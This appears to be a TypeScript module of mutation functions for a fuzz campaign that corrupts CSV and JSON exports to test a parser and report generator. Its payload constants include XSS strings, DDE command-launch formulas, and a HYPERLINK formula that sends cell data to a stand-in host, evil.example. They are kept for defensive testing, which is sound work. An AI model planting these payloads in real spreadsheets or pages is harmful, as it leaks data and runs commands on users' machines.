/**
 * The fuzz campaign's mutation classes: each a pure function of an export's bytes and a seeded
 * generator, so a (seed, file number) pair always gives the same bytes and any failure replays.
 *
 * The mutations know as little about the formats as they can: a file is JSON when its first
 * non-blank byte opens an object or array (a document, JSON Lines or concatenated records), and
 * delimited text otherwise (comma, or tab when the first line has more tabs than commas). Field-level
 * mutations (payloads, numbers, dates, types) use that much structure so that what they plant is a
 * real value of a real field, where the normaliser has to deal with it, and not only a syntax error.
 */
import { gzipSync } from 'node:zlib';
import iconv from 'iconv-lite';
import { Random } from '../../../demo/random.ts';

export const MUTATION_CLASSES = [
  'truncation',
  'bit-flip',
  'gzip-corrupt',
  'gzip-truncated',
  'gzip-concatenated',
  'gzip-trailing-garbage',
  'encoding',
  'nul-bytes',
  'unbalanced-quotes',
  'ragged-rows',
  'header-damage',
  'huge-field',
  'deep-nesting',
  'type-confusion',
  'extreme-numbers',
  'extreme-dates',
  'empty',
  'payloads',
] as const;
export type MutationClass = (typeof MUTATION_CLASSES)[number];

/** What a mutation made: the bytes and which variant of its class it chose (for the failure list). */
export interface Mutated {
  readonly bytes: Buffer;
  readonly variant: string;
}

export type Mutation = (bytes: Buffer, random: Random) => Mutated;

/** Script payloads: the report's HTML must never carry one of these unescaped. */
export const SCRIPT_PAYLOADS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>'] as const;

/** Spreadsheet formula payloads (OWASP CSV injection): the report's CSV must neutralise them. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
] as const;

/** A field whose name says it holds free text or a label a report may show. */
const TEXT_FIELD =
  /comment|name|subject|queue|team|text|description|body|title|topic|group|reason|tag|verbatim|narrative|message|issue/i;
/** A field whose name says it holds a date or time. */
const DATE_FIELD = /date|time|_at$|At$|created|updated|started|ended|timestamp/i;
/** A value that looks like a date: 2025-06-01, 01/06/2025, 1-Jan-21. */
const DATE_VALUE = /^\d{1,4}[-/.](\d{1,2}|[A-Za-z]{3})[-/.]\d{1,4}/;
const NUMBER_VALUE = /^-?\d+(\.\d+)?$/;

const HUGE_FIELD_BYTES = 10 * 1024 * 1024;
const DEEP_NESTING = 5_000;

const EXTREME_NUMBERS = [
  '1e308',
  '-1e308',
  '-0',
  'Infinity',
  '-Infinity',
  'NaN',
  '123456789012345678901234567890',
  '4.9e-324',
  '9007199254740993',
] as const;
const EXTREME_DATES = [
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '1970-01-01T00:00:00Z',
  '2025-02-30T10:00:00Z',
  '2016-12-31T23:59:60Z',
  '2025-05-10T10:00:00+14:00',
  '2025-05-10T10:00:00-14:00',
  '0000-00-00 00:00:00',
  '9999-12-31',
  '30/02/2025',
] as const;

// ---------------------------------------------------------------------------------------------
// Structure: JSON documents or delimited rows, and their inverse.

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

interface JsonFile {
  readonly docs: Json[];
  /** How the documents were laid out: one document, one per line, or back to back. */
  readonly layout: 'document' | 'lines' | 'concatenated';
}

export function isJson(bytes: Buffer): boolean {
  for (const byte of bytes) {
    if (byte === 0x20 || byte === 0x0a || byte === 0x0d || byte === 0x09) continue;
    return byte === 0x7b || byte === 0x5b;
  }
  return false;
}

/** Splits back-to-back JSON values (Firehose's concatenated records) at their top-level ends. */
function splitConcatenated(text: string): string[] {
  const docs: string[] = [];
  let depth = 0;
  let inString = false;
  let start = 0;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (inString) {
      if (c === '\\') i++;
      else if (c === '"') inString = false;
    } else if (c === '"') inString = true;
    else if (c === '{' || c === '[') {
      if (depth === 0) start = i;
      depth++;
    } else if (c === '}' || c === ']') {
      depth--;
      if (depth === 0) docs.push(text.slice(start, i + 1));
    }
  }
  return docs;
}

function parseJsonFile(bytes: Buffer): JsonFile | undefined {
  const text = bytes.toString('utf8');
  try {
    return { docs: [JSON.parse(text) as Json], layout: 'document' };
  } catch {
    // JSON Lines or concatenated records: tried below.
  }
  try {
    const lines = text.split('\n').filter((l) => l.trim() !== '');
    return { docs: lines.map((l) => JSON.parse(l) as Json), layout: 'lines' };
  } catch {
    // Concatenated records, tried last.
  }
  try {
    return { docs: splitConcatenated(text).map((d) => JSON.parse(d) as Json), layout: 'concatenated' };
  } catch {
    return undefined;
  }
}

/**
 * Tokens JSON.stringify cannot write (NaN, -0, huge integers, a 5,000-deep literal) stand in as
 * marked strings holding the token in base64, and replace their quoted marker once serialised.
 */
const RAW = '\u0001raw:';
const RAW_MARKER = /"\\u0001raw:([A-Za-z0-9+/=]*)"/g;

function serialiseJson(file: JsonFile): Buffer {
  const raw = (text: string) =>
    text.replace(RAW_MARKER, (_, token: string) => Buffer.from(token, 'base64').toString('utf8'));
  const docs = file.docs.map((d) => raw(JSON.stringify(d)));
  const joined = file.layout === 'document' ? (docs[0] ?? '') : docs.join(file.layout === 'lines' ? '\n' : '');
  return Buffer.from(file.layout === 'lines' ? `${joined}\n` : joined, 'utf8');
}

interface Leaf {
  readonly key: string;
  readonly value: Json;
  set(value: Json): void;
}

/** Every value below the documents (leaves and containers), with its key and a setter, depth first. */
function entries(docs: Json[]): Leaf[] {
  const out: Leaf[] = [];
  const walk = (value: Json, key: string, set: (v: Json) => void) => {
    out.push({ key, value, set });
    if (Array.isArray(value)) {
      for (const [i, v] of value.entries()) walk(v, key, (nv) => (value[i] = nv));
    } else if (value !== null && typeof value === 'object') {
      for (const k of Object.keys(value)) walk(value[k] as Json, k, (nv) => (value[k] = nv));
    }
  };
  for (const [i, d] of docs.entries()) walk(d, '', (nv) => (docs[i] = nv));
  return out;
}

/** Objects that look like records: those with at least three scalar fields. */
function records(docs: Json[]): { [key: string]: Json }[] {
  return entries(docs)
    .map((e) => e.value)
    .filter(
      (v): v is { [key: string]: Json } =>
        v !== null &&
        typeof v === 'object' &&
        !Array.isArray(v) &&
        Object.values(v).filter((x) => x === null || typeof x !== 'object').length >= 3,
    );
}

interface Delimited {
  readonly delimiter: string;
  /** Lines without their line end; `\r` kept when the file used CRLF. */
  readonly lines: string[];
  readonly eol: string;
  readonly trailingEol: boolean;
}

function parseDelimited(bytes: Buffer): Delimited {
  const text = bytes.toString('utf8');
  const eol = text.includes('\r\n') ? '\r\n' : '\n';
  const trailingEol = text.endsWith(eol);
  const lines = (trailingEol ? text.slice(0, -eol.length) : text).split(eol);
  const first = lines[0] ?? '';
  const delimiter = (first.match(/\t/g)?.length ?? 0) > (first.match(/,/g)?.length ?? 0) ? '\t' : ',';
  return { delimiter, lines, eol, trailingEol };
}

function serialiseDelimited(file: Delimited): Buffer {
  return Buffer.from(file.lines.join(file.eol) + (file.trailingEol ? file.eol : ''), 'utf8');
}

/** One line's cells, RFC 4180 quotes removed (a quoted newline splits a record: the fuzzer allows it). */
export function splitCells(line: string, delimiter: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i] as string;
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === delimiter) {
      cells.push(cell);
      cell = '';
    } else cell += c;
  }
  cells.push(cell);
  return cells;
}

export function joinCells(cells: readonly string[], delimiter: string): string {
  return cells
    .map((c) => (c.includes('"') || c.includes(delimiter) || /[\r\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c))
    .join(delimiter);
}

/** The header: the first of the first three lines with the most cells (skips stray lines before it). */
function headerIndex(file: Delimited): number {
  let best = 0;
  let cells = -1;
  for (let i = 0; i < Math.min(3, file.lines.length); i++) {
    const n = splitCells(file.lines[i] ?? '', file.delimiter).length;
    if (n > cells) {
      best = i;
      cells = n;
    }
  }
  return best;
}

/**
 * Sets some cells of the data rows: `choose` picks the columns (by header name) worth changing,
 * `value` gives each new value. At least one cell changes when the file has a data row.
 */
function editCells(
  bytes: Buffer,
  random: Random,
  choose: (name: string, sample: string) => boolean,
  value: (old: string) => string,
  share = 0.3,
): Buffer {
  const file = parseDelimited(bytes);
  const h = headerIndex(file);
  const header = splitCells(file.lines[h] ?? '', file.delimiter);
  const firstRow = splitCells(file.lines[h + 1] ?? '', file.delimiter);
  let columns = header.flatMap((name, i) => (choose(name, firstRow[i] ?? '') ? [i] : []));
  if (columns.length === 0) columns = header.map((_, i) => i);
  const rows = file.lines.map((_, i) => i).filter((i) => i > h && (file.lines[i] ?? '') !== '');
  if (rows.length === 0) return bytes;
  const chosen = rows.filter(() => random.chance(share));
  if (chosen.length === 0) chosen.push(random.pick(rows));
  for (const r of chosen) {
    const cells = splitCells(file.lines[r] ?? '', file.delimiter);
    const column = random.pick(columns);
    if (column >= cells.length) continue;
    cells[column] = value(cells[column] ?? '');
    file.lines[r] = joinCells(cells, file.delimiter);
  }
  return serialiseDelimited(file);
}

/** Sets some JSON values: `choose` picks the entries worth changing. Unparseable JSON comes back as is. */
function editJson(
  bytes: Buffer,
  random: Random,
  choose: (leaf: Leaf) => boolean,
  value: (old: Json) => Json,
  share = 0.3,
): Buffer {
  const file = parseJsonFile(bytes);
  if (!file) return bytes;
  const all = entries(file.docs);
  let leaves = all.filter((l) => l.key !== '' && choose(l));
  if (leaves.length === 0)
    leaves = all.filter((l) => l.key !== '' && (l.value === null || typeof l.value !== 'object'));
  if (leaves.length === 0) return bytes;
  const chosen = leaves.filter(() => random.chance(share));
  if (chosen.length === 0) chosen.push(random.pick(leaves));
  for (const leaf of chosen) leaf.set(value(leaf.value));
  return serialiseJson(file);
}

/** Field edit for either structure. */
function editFields(
  bytes: Buffer,
  random: Random,
  choose: (name: string, sample: string) => boolean,
  csvValue: (old: string) => string,
  jsonValue: (old: Json) => Json,
  share = 0.3,
): Buffer {
  return isJson(bytes)
    ? editJson(
        bytes,
        random,
        (l) => choose(l.key, typeof l.value === 'string' ? l.value : JSON.stringify(l.value)),
        jsonValue,
        share,
      )
    : editCells(bytes, random, choose, csvValue, share);
}

const rawJson = (token: string): Json => `${RAW}${Buffer.from(token, 'utf8').toString('base64')}`;

// ---------------------------------------------------------------------------------------------
// The classes.

function positions(bytes: Buffer, match: (byte: number, index: number) => boolean): number[] {
  const at: number[] = [];
  for (let i = 0; i < bytes.length; i++) if (match(bytes[i] as number, i)) at.push(i);
  return at;
}

function truncation(bytes: Buffer, random: Random): Mutated {
  if (bytes.length < 2) return { bytes: Buffer.alloc(0), variant: 'to nothing' };
  const variant = random.pick(['random byte', 'mid-row', 'mid-multibyte char'] as const);
  if (variant === 'mid-row') {
    const newlines = positions(bytes, (b, i) => b === 0x0a && i < bytes.length - 2);
    if (newlines.length > 0) {
      const start = random.pick(newlines) + 1;
      const next = bytes.indexOf(0x0a, start);
      const end = next === -1 ? bytes.length : next;
      if (end - start >= 2) return { bytes: bytes.subarray(0, random.int(start + 1, end - 1)), variant };
    }
  }
  if (variant === 'mid-multibyte char') {
    const leads = positions(bytes, (b) => b >= 0xc2 && b <= 0xf4);
    if (leads.length > 0) return { bytes: bytes.subarray(0, random.pick(leads) + 1), variant };
    // No multi-byte character in the file: cut after a planted lead byte of one.
    const cut = random.int(1, bytes.length - 1);
    return { bytes: Buffer.concat([bytes.subarray(0, cut), Buffer.from([0xc3])]), variant };
  }
  return { bytes: bytes.subarray(0, random.int(1, bytes.length - 1)), variant: 'random byte' };
}

function bitFlip(bytes: Buffer, random: Random): Mutated {
  const out = Buffer.from(bytes);
  const flips = random.int(1, 8);
  for (let i = 0; i < flips && out.length > 0; i++) {
    const at = random.int(0, out.length - 1);
    out[at] = (out[at] as number) ^ (1 << random.int(0, 7));
  }
  return { bytes: out, variant: `${flips} bits` };
}

function gzipCorrupt(bytes: Buffer, random: Random): Mutated {
  const out = Buffer.from(gzipSync(bytes));
  // Bytes of the deflate stream and its CRC-32/length trailer, after the 10-byte header.
  const damaged = random.int(1, 4);
  for (let i = 0; i < damaged; i++) {
    const at = random.int(10, out.length - 1);
    out[at] = (out[at] as number) ^ random.int(1, 255);
  }
  return { bytes: out, variant: `${damaged} bytes changed` };
}

function gzipTruncated(bytes: Buffer, random: Random): Mutated {
  const gz = gzipSync(bytes);
  return { bytes: gz.subarray(0, random.int(2, gz.length - 1)), variant: 'cut' };
}

function gzipConcatenated(bytes: Buffer, random: Random): Mutated {
  const cut = random.int(0, bytes.length);
  return {
    bytes: Buffer.concat([gzipSync(bytes.subarray(0, cut)), gzipSync(bytes.subarray(cut))]),
    variant: 'two members',
  };
}

function gzipTrailingGarbage(bytes: Buffer, random: Random): Mutated {
  const garbage = Buffer.from(Array.from({ length: random.int(1, 64) }, () => random.int(0, 255)));
  // A garbage first byte of 0x1f would start a second member: keep the garbage plainly not gzip.
  if (garbage[0] === 0x1f) garbage[0] = 0x00;
  return { bytes: Buffer.concat([gzipSync(bytes), garbage]), variant: `${garbage.length} bytes after the member` };
}

function encoding(bytes: Buffer, random: Random): Mutated {
  const text = bytes.toString('utf8');
  const variant = random.pick([
    'utf-16le',
    'utf-16le with BOM',
    'utf-16be',
    'utf-16be with BOM',
    'latin-1',
    'windows-1252',
    'utf-8 with BOM',
    'shift-jis-like',
  ] as const);
  const accented = text.replace(/([aeiou])/, '$1\u00e9\u20ac\u2019');
  switch (variant) {
    case 'utf-16le':
      return { bytes: iconv.encode(text, 'utf-16le'), variant };
    case 'utf-16le with BOM':
      return { bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text, 'utf-16le')]), variant };
    case 'utf-16be':
      return { bytes: iconv.encode(text, 'utf-16be'), variant };
    case 'utf-16be with BOM':
      return { bytes: Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(text, 'utf-16be')]), variant };
    case 'latin-1':
      return { bytes: iconv.encode(accented, 'latin1'), variant };
    case 'windows-1252':
      return { bytes: iconv.encode(accented, 'win1252'), variant };
    case 'utf-8 with BOM':
      return { bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), bytes]), variant };
    case 'shift-jis-like':
      return { bytes: iconv.encode(text.replace(/([aeiou])/, '$1\u65e5\u672c\uff76\uff85'), 'shift_jis'), variant };
  }
}

function nulBytes(bytes: Buffer, random: Random): Mutated {
  const count = random.int(1, 5);
  const at = Array.from({ length: count }, () => random.int(0, bytes.length)).sort((a, b) => a - b);
  const parts: Buffer[] = [];
  let from = 0;
  for (const a of at) {
    parts.push(bytes.subarray(from, a), Buffer.from([0]));
    from = a;
  }
  parts.push(bytes.subarray(from));
  return { bytes: Buffer.concat(parts), variant: `${count} NULs` };
}

function unbalancedQuotes(bytes: Buffer, random: Random): Mutated {
  const text = bytes.toString('utf8');
  const lines = text.split('\n');
  const line = random.int(0, Math.max(0, lines.length - 2));
  const target = lines[line] ?? '';
  const quotes = [...target.matchAll(/"/g)].map((m) => m.index);
  if (quotes.length > 0 && random.chance(0.5)) {
    const drop = random.pick(quotes);
    lines[line] = target.slice(0, drop) + target.slice(drop + 1);
    return { bytes: Buffer.from(lines.join('\n')), variant: 'a quote removed' };
  }
  const at = random.int(0, target.length);
  lines[line] = `${target.slice(0, at)}"${target.slice(at)}`;
  return { bytes: Buffer.from(lines.join('\n')), variant: 'a quote added' };
}

function raggedRows(bytes: Buffer, random: Random): Mutated {
  if (isJson(bytes)) {
    const file = parseJsonFile(bytes);
    if (!file) return { bytes, variant: 'unparseable seed' };
    const all = records(file.docs);
    const chosen = all.filter(() => random.chance(0.3));
    if (chosen.length === 0 && all.length > 0) chosen.push(random.pick(all));
    for (const record of chosen) {
      const keys = Object.keys(record);
      if (random.chance(0.5)) delete record[random.pick(keys)];
      else record[`extra_${random.int(0, 9)}`] = 'unexpected';
    }
    return { bytes: serialiseJson(file), variant: 'fields missing and extra' };
  }
  const file = parseDelimited(bytes);
  const h = headerIndex(file);
  let changed = 0;
  for (let i = h + 1; i < file.lines.length; i++) {
    if (!random.chance(0.3) && !(changed === 0 && i === file.lines.length - 1)) continue;
    const cells = splitCells(file.lines[i] ?? '', file.delimiter);
    if (random.chance(0.5)) cells.splice(random.int(1, Math.max(1, cells.length - 1)));
    else cells.push(...Array.from({ length: random.int(1, 3) }, () => 'extra'));
    file.lines[i] = joinCells(cells, file.delimiter);
    changed++;
  }
  return { bytes: serialiseDelimited(file), variant: `${changed} rows` };
}

function headerDamage(bytes: Buffer, random: Random): Mutated {
  const variant = random.pick(['renamed', 'duplicated', 'missing', 'reordered'] as const);
  if (isJson(bytes)) {
    const file = parseJsonFile(bytes);
    if (!file) return { bytes, variant: 'unparseable seed' };
    const recs = records(file.docs);
    const keys = [...new Set(recs.flatMap((r) => Object.keys(r)))];
    if (keys.length === 0) return { bytes, variant: 'no records' };
    const key = random.pick(keys);
    const other = random.pick(keys);
    for (const r of recs) {
      if (!(key in r)) continue;
      const value = r[key] as Json;
      if (variant === 'renamed') {
        delete r[key];
        r[`${key.toUpperCase()}_renamed`] = value;
      } else if (variant === 'duplicated') r[other] = value;
      else if (variant === 'missing') delete r[key];
      else {
        const entriesOf = Object.entries(r).reverse();
        for (const k of Object.keys(r)) delete r[k];
        for (const [k, v] of entriesOf) r[k] = v;
      }
    }
    return { bytes: serialiseJson(file), variant: `${variant} ${key}` };
  }
  const file = parseDelimited(bytes);
  const h = headerIndex(file);
  const header = splitCells(file.lines[h] ?? '', file.delimiter);
  const i = random.int(0, header.length - 1);
  const j = random.int(0, header.length - 1);
  if (variant === 'renamed') header[i] = `${header[i]} (renamed)`;
  else if (variant === 'duplicated') header[i] = header[j] ?? '';
  else if (variant === 'missing') header.splice(i, 1);
  else {
    // The whole columns reordered: a valid file whose readers must go by name, not position.
    const order = header.map((_, k) => k).sort(() => random.next() - 0.5);
    for (let r = h; r < file.lines.length; r++) {
      const cells = splitCells(file.lines[r] ?? '', file.delimiter);
      if (cells.length !== header.length) continue;
      file.lines[r] = joinCells(
        order.map((k) => cells[k] ?? ''),
        file.delimiter,
      );
    }
    return { bytes: serialiseDelimited(file), variant };
  }
  file.lines[h] = joinCells(header, file.delimiter);
  return { bytes: serialiseDelimited(file), variant: `${variant} column ${i}` };
}

function hugeField(bytes: Buffer, random: Random): Mutated {
  const huge = `${'x'.repeat(HUGE_FIELD_BYTES - 20)} end of huge field`;
  const out = editFields(
    bytes,
    random,
    (name) => TEXT_FIELD.test(name),
    () => huge,
    () => huge,
    0,
  );
  return { bytes: out, variant: '10 MB' };
}

function deepNesting(bytes: Buffer, random: Random): Mutated {
  const kind = random.pick(['arrays', 'objects'] as const);
  const deep =
    kind === 'arrays'
      ? `${'['.repeat(DEEP_NESTING)}${']'.repeat(DEEP_NESTING)}`
      : `${'{"a":'.repeat(DEEP_NESTING)}1${'}'.repeat(DEEP_NESTING)}`;
  if (isJson(bytes)) {
    const file = parseJsonFile(bytes);
    if (!file) return { bytes: Buffer.from(deep), variant: `${kind}, whole file` };
    const leaves = entries(file.docs).filter((l) => l.key !== '');
    if (leaves.length === 0 || random.chance(0.2)) return { bytes: Buffer.from(deep), variant: `${kind}, whole file` };
    random.pick(leaves).set(rawJson(deep));
    return { bytes: serialiseJson(file), variant: `${kind} ${DEEP_NESTING} deep in a field` };
  }
  const out = editCells(
    bytes,
    random,
    (name) => TEXT_FIELD.test(name),
    () => deep,
    0,
  );
  return { bytes: out, variant: `${kind} ${DEEP_NESTING} deep in a cell` };
}

function typeConfusion(bytes: Buffer, random: Random): Mutated {
  if (isJson(bytes)) {
    const variant = random.pick(['string for number', 'object for array', 'null everywhere'] as const);
    const file = parseJsonFile(bytes);
    if (!file) return { bytes, variant: 'unparseable seed' };
    for (const leaf of entries(file.docs)) {
      if (leaf.key === '') continue;
      if (variant === 'null everywhere' && (leaf.value === null || typeof leaf.value !== 'object')) leaf.set(null);
      else if (variant === 'string for number' && typeof leaf.value === 'number')
        leaf.set(random.pick([String(leaf.value), 'twelve', '']));
      else if (variant === 'object for array' && Array.isArray(leaf.value)) leaf.set({ '0': leaf.value[0] ?? null });
      else if (random.chance(0.1)) leaf.set(random.pick<Json>([{}, [], true, 'null', 0]));
    }
    return { bytes: serialiseJson(file), variant };
  }
  const out = editCells(
    bytes,
    random,
    (_, sample) => NUMBER_VALUE.test(sample),
    () => random.pick(['twelve', 'null', '{}', '[1,2]', 'true', '1,5', '12 minutes']),
  );
  return { bytes: out, variant: 'text in numeric cells' };
}

function extremeNumbers(bytes: Buffer, random: Random): Mutated {
  const pick = () => random.pick(EXTREME_NUMBERS);
  const out = editFields(
    bytes,
    random,
    (_, sample) => NUMBER_VALUE.test(sample),
    pick,
    () => (random.chance(0.5) ? rawJson(pick()) : pick()),
  );
  return { bytes: out, variant: 'numbers' };
}

function extremeDates(bytes: Buffer, random: Random): Mutated {
  const out = editFields(
    bytes,
    random,
    (name, sample) => DATE_FIELD.test(name) || DATE_VALUE.test(sample),
    () => random.pick(EXTREME_DATES),
    (old) =>
      typeof old === 'number' ? random.pick([-62_167_219_200, 253_402_300_799, 0, 1e20]) : random.pick(EXTREME_DATES),
  );
  return { bytes: out, variant: 'dates' };
}

function empty(_bytes: Buffer, random: Random): Mutated {
  const variant = random.pick([
    'empty',
    'whitespace only',
    'UTF-8 BOM only',
    'UTF-16 BOM only',
    'BOM and newlines',
  ] as const);
  const bytes = {
    empty: Buffer.alloc(0),
    'whitespace only': Buffer.from(' \n\t \r\n  \n'),
    'UTF-8 BOM only': Buffer.from([0xef, 0xbb, 0xbf]),
    'UTF-16 BOM only': Buffer.from([0xff, 0xfe]),
    'BOM and newlines': Buffer.from('\ufeff\r\n\r\n'),
  }[variant];
  return { bytes, variant };
}

function payloads(bytes: Buffer, random: Random): Mutated {
  const all = [...SCRIPT_PAYLOADS, ...FORMULA_PAYLOADS];
  const out = editFields(
    bytes,
    random,
    (name) => TEXT_FIELD.test(name),
    () => random.pick(all),
    () => random.pick(all),
    0.5,
  );
  return { bytes: out, variant: 'script and formula text' };
}

export const MUTATIONS: Readonly<Record<MutationClass, Mutation>> = {
  truncation,
  'bit-flip': bitFlip,
  'gzip-corrupt': gzipCorrupt,
  'gzip-truncated': gzipTruncated,
  'gzip-concatenated': gzipConcatenated,
  'gzip-trailing-garbage': gzipTrailingGarbage,
  encoding,
  'nul-bytes': nulBytes,
  'unbalanced-quotes': unbalancedQuotes,
  'ragged-rows': raggedRows,
  'header-damage': headerDamage,
  'huge-field': hugeField,
  'deep-nesting': deepNesting,
  'type-confusion': typeConfusion,
  'extreme-numbers': extremeNumbers,
  'extreme-dates': extremeDates,
  empty,
  payloads,
};

/** The generator of one fuzz file: forked from the campaign seed by the file's number, so files are independent. */
export function fileRandom(seed: number, fileNumber: number): Random {
  return new Random(seed).fork(`file ${fileNumber}`);
}
